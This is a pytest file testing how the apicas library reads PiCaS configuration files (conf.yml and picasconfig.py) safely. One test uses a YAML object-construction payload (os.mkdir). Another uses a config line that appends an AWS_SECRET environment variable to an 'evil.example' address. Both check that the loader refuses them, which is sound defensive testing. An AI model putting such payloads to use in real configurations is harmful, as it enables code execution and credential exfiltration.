"""PiCaS's own configuration files, read as they are."""

from __future__ import annotations

import runpy
from pathlib import Path
from typing import Any

import pytest

from apicas.configuration import Configuration, configure
from apicas.exceptions import ConfigError
from tests.security.owners import give_away

yaml = pytest.importorskip("yaml")
fernet = pytest.importorskip("cryptography.fernet")

SECRET = "s3cr3t"
HOST = "https://picas.example:6984"
POOL = f"{HOST}/survey"
OUR_PICAS = next(iter(Path(__file__).parents[2].glob(".picas/lib/python3*/site-packages/picas")), None)


def found(tmp_path: Path, pool: str | None = None, **environ: str) -> Configuration:
    environ = {"HOME": str(tmp_path), **environ}
    directory = tmp_path / "work"
    directory.mkdir(exist_ok=True)
    return configure(pool, environ=environ, directory=directory, user_directory=tmp_path / "user")


def login(configuration: Configuration) -> tuple[str | None, object]:
    return configuration.username, configuration.password


def conf(tmp_path: Path, *, word: str | None = SECRET, **changed: Any) -> Path:
    """A conf.yml with its key, as PiCaS writes them."""
    directory = tmp_path / ".config" / "picas"
    directory.mkdir(parents=True, exist_ok=True)
    key = fernet.Fernet.generate_key()
    (directory / "key.dat").write_bytes(key)
    (directory / "key.dat").chmod(0o600)
    values = {"host_url": HOST, "database": "survey", "username": "me"}
    if word is not None:
        values["encrypted_password"] = fernet.Fernet(key).encrypt(word.encode()).decode()
    values |= changed
    path = directory / "conf.yml"
    with path.open("w") as file:
        yaml.safe_dump({name: value for name, value in values.items() if value is not None}, file)
    path.chmod(0o644)  # as PiCaS leaves it: the password in it is encrypted
    return path


def module(tmp_path: Path, text: str, mode: int = 0o600) -> Path:
    path = tmp_path / "work" / "picasconfig.py"
    path.parent.mkdir(exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    return path


PLAIN = f'PICAS_HOST_URL="{HOST}"\nPICAS_DATABASE="survey"\nPICAS_USERNAME="me"\nPICAS_PASSWORD="{SECRET}"\n'


# conf.yml. ------------------------------------------------------------------------------------------------------------


def test_a_conf_yml_names_the_pool_the_name_and_the_password(tmp_path: Path) -> None:
    path = conf(tmp_path)
    configuration = found(tmp_path)
    assert (configuration.pool, configuration.source) == (POOL, str(path))
    assert login(configuration) == ("me", SECRET)
    assert SECRET not in repr(configuration)
    assert configuration.origins == {"pool": str(path), "username": str(path), "password": str(path)}


@pytest.mark.skipif(OUR_PICAS is None, reason="no PiCaS in .picas/: `make setup` installs it")
def test_what_picas_itself_encrypts_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The key is made, and the password encrypted, by the package's own functions."""
    assert OUR_PICAS is not None
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / ".config").mkdir()
    crypto = runpy.run_path(str(OUR_PICAS / "crypto.py"))
    crypto["generate_and_save_key"]()
    key = (tmp_path / ".config" / "picas" / "key.dat").read_bytes()
    encrypted = crypto["encrypt_password"]("geheim ß".encode()).decode()
    path = conf(tmp_path, encrypted_password=encrypted)
    (path.parent / "key.dat").write_bytes(key)
    assert found(tmp_path).password == "geheim ß"


def test_everything_of_apicas_comes_before_a_conf_yml(tmp_path: Path) -> None:
    conf(tmp_path)
    assert found(tmp_path, "sqlite:///x.db").pool == "sqlite:///x.db"
    assert found(tmp_path, APICAS_POOL="sqlite:///x.db").pool == "sqlite:///x.db"
    assert found(tmp_path, APICAS_USERNAME="me", APICAS_PASSWORD="newer").password == "newer"
    (tmp_path / "user").mkdir()
    (tmp_path / "user" / "config.toml").write_text('pool = "sqlite:///user.db"')
    assert found(tmp_path).pool == "sqlite:///user.db"


def test_a_conf_yml_s_password_goes_to_its_own_server_only(tmp_path: Path) -> None:
    conf(tmp_path)
    assert login(found(tmp_path, f"{HOST}/another")) == ("me", SECRET)
    assert login(found(tmp_path, f"https://me@{HOST[8:]}/another")) == ("me", SECRET)
    assert login(found(tmp_path, f"https://you@{HOST[8:]}/another")) == ("you", None)
    assert login(found(tmp_path, "https://elsewhere.example/survey")) == (None, None)


def test_a_netrc_and_a_kept_password_are_newer_than_a_conf_yml_s(tmp_path: Path) -> None:
    from apicas._secrets import Secret
    from apicas.configuration.stored import store

    conf(tmp_path)
    (tmp_path / ".netrc").write_text("machine picas.example login me password from-netrc\n")
    (tmp_path / ".netrc").chmod(0o600)
    assert login(found(tmp_path)) == ("me", "from-netrc")
    store(tmp_path / "user", HOST, "me", Secret("kept"), in_file=True)
    assert login(found(tmp_path)) == ("me", "kept")


def test_a_database_with_odd_characters_is_quoted(tmp_path: Path) -> None:
    conf(tmp_path, database="a/b?c", host_url=f"{HOST}/")
    assert found(tmp_path).pool == f"{HOST}/a%2Fb%3Fc"


@pytest.mark.parametrize(
    ("changed", "reason"),
    [
        ({"host_url": None}, "does not say host_url"),
        ({"database": None, "host_url": None}, "does not say host_url and database"),
        ({"host_url": "picas.example:6984"}, "no http:// or https:// address"),
        ({"host_url": "https://me:pw/x@h"}, "cannot be read"),
    ],
)
def test_a_conf_yml_that_cannot_name_the_pool_is_no_reason_to_take_another(
    tmp_path: Path, changed: dict[str, str | None], reason: str
) -> None:
    conf(tmp_path, **changed)
    with pytest.raises(ConfigError, match=reason):
        found(tmp_path)
    assert found(tmp_path, "sqlite:///x.db").pool == "sqlite:///x.db"  # and concerns nobody who says which


def test_a_conf_yml_that_is_no_yaml_is_one_line_and_quotes_nothing(tmp_path: Path) -> None:
    conf(tmp_path).write_text(f"host_url: [{SECRET}")
    with pytest.raises(ConfigError, match="is no YAML") as caught:
        found(tmp_path)
    assert SECRET not in str(caught.value)


def test_a_conf_yml_makes_no_objects(tmp_path: Path) -> None:
    conf(tmp_path).write_text(f"host_url: !!python/object/apply:os.mkdir [{tmp_path}/made]\n")
    with pytest.raises(ConfigError, match="is no YAML"):
        found(tmp_path)
    assert not (tmp_path / "made").exists()


def test_a_conf_yml_of_somebody_else_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    give_away(conf(tmp_path), monkeypatch)
    with pytest.raises(ConfigError, match="others may have written it"):
        found(tmp_path)


def test_a_key_that_others_can_read_is_not_used_and_said(tmp_path: Path) -> None:
    path = conf(tmp_path)
    (path.parent / "key.dat").chmod(0o644)
    configuration = found(tmp_path)
    assert login(configuration) == ("me", None)
    assert "chmod 600" in configuration.notes[0]


@pytest.mark.parametrize(
    ("spoil", "reason"),
    [
        (lambda key: key.unlink(), "the key for the password"),
        (lambda key: key.write_bytes(fernet.Fernet.generate_key()), "is not encrypted with the key"),
        (lambda key: key.write_text("nonsense"), "is not encrypted with the key"),
    ],
)
def test_a_password_that_cannot_be_decrypted_is_asked_for_and_said(tmp_path: Path, spoil: Any, reason: str) -> None:
    spoil(conf(tmp_path).parent / "key.dat")
    configuration = found(tmp_path)
    assert (configuration.pool, configuration.lacks_password) == (POOL, True)
    assert reason in configuration.notes[0]


def test_a_conf_yml_without_a_password_has_a_name(tmp_path: Path) -> None:
    conf(tmp_path, word=None)
    configuration = found(tmp_path)
    assert (login(configuration), configuration.notes) == (("me", None), ())


@pytest.mark.parametrize("library", ["yaml", "cryptography"])
def test_without_the_extra_the_message_says_which(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, library: str
) -> None:
    conf(tmp_path)
    for name in (library, f"{library}.fernet"):
        monkeypatch.setitem(__import__("sys").modules, name, None)
    if library == "yaml":
        with pytest.raises(ConfigError, match=r"pip install 'apicas\[picas\]'"):
            found(tmp_path)
    else:
        assert "pip install 'apicas[picas]'" in found(tmp_path).notes[0]


# picasconfig.py. ------------------------------------------------------------------------------------------------------


def test_a_picasconfig_is_read_and_not_run(tmp_path: Path) -> None:
    path = module(tmp_path, f"{PLAIN}raise SystemExit(5)\n")
    configuration = found(tmp_path)
    assert (configuration.pool, configuration.source) == (POOL, str(path))
    assert login(configuration) == ("me", SECRET)
    assert SECRET not in repr(configuration)


@pytest.mark.parametrize(
    "text",
    [
        f'PICAS_HOST_URL = "https://" + "picas.example" + f":{{6984!s}}"\n{PLAIN[PLAIN.index("PICAS_D") :]}',
        f"import os\n{PLAIN}PICAS_HOST_URL = os.uname()[0]\nif True:\n    pass\n",
    ],
)
def test_what_only_running_it_would_tell_is_said(tmp_path: Path, text: str) -> None:
    module(tmp_path, text)
    with pytest.raises(ConfigError, match=r"PICAS_HOST_URL in line \d+ is worked out by code") as caught:
        found(tmp_path)
    assert SECRET not in str(caught.value)


@pytest.mark.parametrize(
    "text",
    [
        'host = "picas.example"\nPICAS_HOST_URL = f"https://{host}:6984"\n',
        'import os\nPICAS_HOST_URL = os.environ["PICAS_SERVER"]\n',
        'import os\nPICAS_HOST_URL = os.environ.get("PICAS_SERVER")\n',
        'import os\nPICAS_HOST_URL = os.getenv("PICAS_SERVER", "https://wrong.example")\n',
        f'import os\nPICAS_HOST_URL = os.getenv("PICAS_NO_SERVER", "{HOST}")\n',
        f'PICAS_HOST_URL: str = "https://old.example"\nPICAS_HOST_URL = "{HOST}"\n',
        'PICAS_HOST_URL = OTHER = ("https://picas.example"\n":6984")\n',
    ],
)
def test_texts_and_variables_are_put_together(tmp_path: Path, text: str) -> None:
    module(tmp_path, f'{text}PICAS_DATABASE = "survey"\n')
    assert found(tmp_path, PICAS_SERVER=HOST).pool == POOL


@pytest.mark.parametrize("call", ["os.environ['AWS_SECRET']", "os.getenv('AWS_SECRET', '')"])
def test_no_other_variable_of_the_environment_gets_into_an_address(tmp_path: Path, call: str) -> None:
    """A file that came with somebody's repository would send it to their server."""
    module(tmp_path, f'import os\nPICAS_HOST_URL = "https://evil.example/" + {call}\nPICAS_DATABASE = "db"\n')
    with pytest.raises(ConfigError, match="worked out by code"):
        found(tmp_path, AWS_SECRET=SECRET)


@pytest.mark.parametrize("text", ['"a"' + ' + "a"' * 1500, "a" + ".b" * 1500])
def test_a_picasconfig_that_is_nested_too_deeply_is_one_line(tmp_path: Path, text: str) -> None:
    module(tmp_path, f"PICAS_HOST_URL = {text}\n")
    with pytest.raises(ConfigError) as caught:
        found(tmp_path)
    assert len(str(caught.value)) < 400


@pytest.mark.parametrize(
    "change",
    [
        'if len(PICAS_USERNAME) > 1:\n    PICAS_HOST_URL = "https://other.example"\n',
        "from elsewhere import PICAS_HOST_URL\n",
        "for PICAS_HOST_URL in []:\n    pass\n",
        'PICAS_HOST_URL += "x"\n',
        "PICAS_HOST_URL, x = 1, 2\n",
    ],
)
def test_a_value_that_a_later_line_may_change_is_not_known(tmp_path: Path, change: str) -> None:
    module(tmp_path, PLAIN + change)
    with pytest.raises(ConfigError, match="PICAS_HOST_URL"):
        found(tmp_path)


def test_the_template_of_picas_takes_everything_from_conf_yml(tmp_path: Path) -> None:
    text = "".join(
        f"PICAS_{name} = {value}\n"
        for name, value in {
            "HOST_URL": "config.config['host_url']",
            "DATABASE": "config.config['database']",
            "USERNAME": "config.config['username']",
            "PASSWORD": "decrypt_password(config.config['encrypted_password']).decode()",
        }.items()
    )
    module(tmp_path, f"from picas.picas_config import PicasConfig\nconfig = PicasConfig(load=True)\n{text}")
    with pytest.raises(ConfigError, match="is worked out by code"):
        found(tmp_path)
    path = conf(tmp_path)
    configuration = found(tmp_path)
    assert (configuration.source, configuration.notes) == (str(path), ())
    assert login(configuration) == ("me", SECRET)


def test_an_empty_template_says_nothing(tmp_path: Path) -> None:
    module(tmp_path, "".join(f'PICAS_{name}=""\n' for name in ("HOST_URL", "DATABASE", "USERNAME", "PASSWORD")))
    assert found(tmp_path).source == "the default"


def test_a_password_that_is_worked_out_is_asked_for_and_said(tmp_path: Path) -> None:
    module(tmp_path, f"import getpass\n{PLAIN}PICAS_PASSWORD = getpass.getpass()\n")
    configuration = found(tmp_path)
    assert login(configuration) == ("me", None)
    assert "PICAS_PASSWORD in line 6" in configuration.notes[0]


@pytest.mark.parametrize("mode", [0o644, 0o640])
def test_a_password_in_a_picasconfig_that_others_can_read_is_not_used(tmp_path: Path, mode: int) -> None:
    module(tmp_path, PLAIN, mode)
    configuration = found(tmp_path)
    assert (configuration.pool, configuration.password) == (POOL, None)
    assert "chmod 600" in configuration.notes[0]


def test_a_picasconfig_of_somebody_else_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In a directory such as /tmp it could send our password to its owner's server."""
    give_away(module(tmp_path, PLAIN), monkeypatch)
    with pytest.raises(ConfigError, match="others may have written it"):
        found(tmp_path)
    assert found(tmp_path, "sqlite:///x.db").pool == "sqlite:///x.db"


@pytest.mark.parametrize("text", [f"PICAS_PASSWORD = '{SECRET}", f"{PLAIN}\x00", "PICAS_HOST_URL = " + "(" * 5000])
def test_a_picasconfig_that_is_no_python_is_one_line_and_quotes_nothing(tmp_path: Path, text: str) -> None:
    module(tmp_path, text)
    with pytest.raises(ConfigError, match="is no Python") as caught:
        found(tmp_path)
    assert SECRET not in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_conf_yml_comes_before_a_picasconfig(tmp_path: Path) -> None:
    path = conf(tmp_path)
    module(tmp_path, PLAIN.replace("survey", "other"))
    assert found(tmp_path).source == str(path)
